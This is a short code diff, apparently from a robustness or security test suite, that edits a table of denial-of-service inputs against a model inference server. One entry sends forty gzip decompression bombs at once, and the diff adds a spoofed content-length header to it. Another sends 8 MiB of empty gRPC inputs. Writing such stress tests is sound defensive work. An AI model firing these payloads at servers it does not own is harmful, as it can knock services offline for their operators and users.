@@ -142,7 +142,12 @@ export const BOMBS = {
   '40 gzip bombs at once': async (target) =>
     (
       await Promise.all(
-        Array.from({ length: 40 }, () => post(target, INFER, GZIP_BOMB, { 'content-encoding': 'gzip' })),
+        Array.from({ length: 40 }, () =>
+          post(target, INFER, GZIP_BOMB, {
+            'content-encoding': 'gzip',
+            'inference-header-content-length': '10',
+          }),
+        ),
       )
     ).at(-1),
   '8 MiB of empty gRPC inputs': call(`${INFERENCE}ModelInfer`, Buffer.alloc(8 * MIB, Buffer.from([0x2a, 0]))),
